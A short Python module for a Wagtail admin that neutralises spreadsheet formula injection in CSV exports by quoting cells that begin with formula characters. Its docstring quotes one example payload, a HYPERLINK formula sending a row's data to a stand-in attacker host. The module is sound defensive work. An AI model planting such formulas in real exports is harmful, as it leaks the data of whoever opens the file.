"""Spreadsheet exports from the admin that a spreadsheet program opens safely.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by Excel and LibreOffice when they open a CSV file:
``=HYPERLINK("http://evil.example/?d="&B2,"Cliquez")`` typed by a visitor would
send the row's data away when the association clicks it. The OWASP remedy: such
a cell gets a leading ``'``, which makes the program show it as text.

XLSX cells carry their type: Wagtail's export already writes every text as a
string cell (never a formula), so the text stays exactly as typed there.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """The text as a spreadsheet program will show it, never run it."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeSpreadsheetExportMixin:
    """For an admin view with Wagtail's ``SpreadsheetExportMixin`` (e.g. ``IndexView``)."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return neutralise_formula(value)
        return value
